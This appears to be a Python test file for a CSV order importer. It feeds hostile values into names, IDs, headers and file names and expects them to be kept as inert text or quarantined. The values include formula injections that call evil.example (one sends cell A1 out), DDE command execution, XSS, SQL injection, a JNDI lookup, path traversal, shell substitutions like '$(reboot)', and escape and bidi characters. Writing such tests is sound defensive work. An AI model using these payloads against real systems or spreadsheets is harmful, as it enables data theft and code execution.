"""注入：名字里的公式、标记、SQL、控制符、双向字符；文字只是文字，屏幕与文件里都不会活过来。"""

from __future__ import annotations

from corpus.case import Case, accepted, partly, stopped
from corpus.make import GOOD, GOOD_CLEAN, HEADER, good, quoted, table

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "＝1+1",
    "＋1",
    "－1+1",
    "＠SUM(1)",
    '=IMPORTXML("http://evil.example","//a")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    "-2+3+cmd|' /C calc'!A0",
    "%0A=1+1",
    ";=1+1",
    "|=1+1",
    '"=1+1',
)
"""18 种想在表格软件里活过来的名字；它们是合法的文字，原样还得回来。"""

MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "'; DROP TABLE orders; --",
    '" OR 1=1 --',
    "../../etc/passwd",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "%s%s%n",
    "$(reboot)",
    "`id`",
    "\\x1b[31m",
    "$\\frac{$",
    "_下划线",
    "&lt;b&gt;",
    "__proto__",
    "javascript:alert(1)",
    "nan",
    "O'Neil",
    "a|b|c",
    "C:\\新建\\表",
    "#REF",
    "//注释",
)

INVISIBLE = {
    "escape": "王\x1b[31m五",
    "bell": "王\x07五",
    "backspace": "王\x08五",
    "bidi": "王\u202e五",
    "isolate": "王\u2066五",
    "zero-width": "王\u200b五",
    "tag": "王\U000e0041五",
    "hangul-filler": "王\u3164五",
    "c1": "王\x9b31m五",
    "delete": "王\x7f五",
}
"""看不见的字符：看上去相同的两位客户其实不同。"""


def _named(cell: str) -> bytes:
    return table(HEADER, f"A1,{quoted(cell)},10.00,2024-05-01,1", GOOD[1])


def _kept(cell: str):
    return accepted(("A1", cell, "10.00", "2024-05-01", "1"), GOOD_CLEAN[1])


def cases() -> list[Case]:
    found = [Case(f"formula-{i:02d}", _named(cell), _kept(cell)) for i, cell in enumerate(FORMULAS)]
    found += [Case(f"markup-{i:02d}", _named(cell), _kept(cell)) for i, cell in enumerate(MARKUP)]
    isolated = partly(GOOD_CLEAN[1], bad=[(2, "客户编号")])
    found += [
        Case(f"invisible-{name}", _named(cell), isolated | stopped()) for name, cell in INVISIBLE.items()
    ]
    ids = table(HEADER, *(f"{quoted(cell)},u1,10.00,2024-05-01,1" for cell in FORMULAS))
    ids_kept = accepted(*((cell, "u1", "10.00", "2024-05-01", "1") for cell in FORMULAS))
    plain = accepted(*GOOD_CLEAN)
    evil_header = table(
        HEADER + ",=1+1,<script>alert(1)</script>,\x1b[31m红,\u202e倒", *(line + ",a,b,c,d" for line in GOOD)
    )
    return [
        *found,
        Case("formulas-as-order-ids", ids, ids_kept),
        # 名字首尾的换行、制表不是名字；里面的换行看不见，隔离
        Case("newline-inside-name", _named("王\n五"), isolated | stopped()),
        Case("tab-before-formula", _named("\t=1+1"), _kept("=1+1") | isolated),
        Case("nel-inside-name", _named("王\x85五"), isolated | stopped()),
        Case("hostile-header", evil_header, plain | stopped()),
        Case("hostile-unknown-header", table("=1+1,\x1b[31m,<script>,\u202e", "1,2,3,4"), stopped("--map")),
        Case(
            "hostile-bad-value",
            table(HEADER, "A1,u1,\x1b[31m=1+1,2024-05-01,1", GOOD[1]),
            partly(GOOD_CLEAN[1], bad=[(2, "金额")]),
        ),
        Case(
            "hostile-status",
            table(HEADER + ",订单状态", GOOD[0] + ",\x1b]0;x\x07已完成", GOOD[1] + ",已完成"),
            partly(GOOD_CLEAN[1], bad=[(2, "订单状态")]) | stopped(),
        ),
        Case("file-called-formula", good(), plain, file="=1+1.csv"),
        Case("file-with-escape", good(), plain, file="a\x1b[31m\u202e.csv"),
        Case("file-with-newline", good(), plain, file="a\nb.csv"),
        Case("file-with-shell", good(), plain, file="$(touch pwned);`id`&x'y.csv"),
        Case("file-with-glob", good(), plain, file="[a-z]*?.csv"),
        Case("file-with-quote-and-space", good(), plain, file="五月 ' \" 订单.csv"),
        Case("file-with-long-name", good(), plain, file="长" * 80 + ".csv"),
        Case("file-with-percent", good(), plain, file="%s%n{0}.csv"),
        Case("file-bad-with-escape", b"\xff\xff\xff", stopped(), file="a\x1b[31mb.csv"),
        Case(
            "file-markup-unknown", table("甲,乙", "1,2"), stopped(), file="<img src=x onerror=alert(1)>.csv"
        ),
        Case(
            "look-alike-customers",
            table(HEADER, "A1,аpple,10.00,2024-05-01,1", "A2,apple,20.50,2024-05-02,2"),
            accepted("A1|аpple|10.00|2024-05-01|1", "A2|apple|20.50|2024-05-02|2"),
        ),
        Case(
            "composed-and-decomposed",
            table(HEADER, "A1,e\u0301,10.00,2024-05-01,1", "A2,\u00e9,20.50,2024-05-02,2"),
            accepted("A1|e\u0301|10.00|2024-05-01|1", "A2|\u00e9|20.50|2024-05-02|2")
            | accepted("A1|\u00e9|10.00|2024-05-01|1", "A2|\u00e9|20.50|2024-05-02|2")
            | stopped(),
        ),
    ]
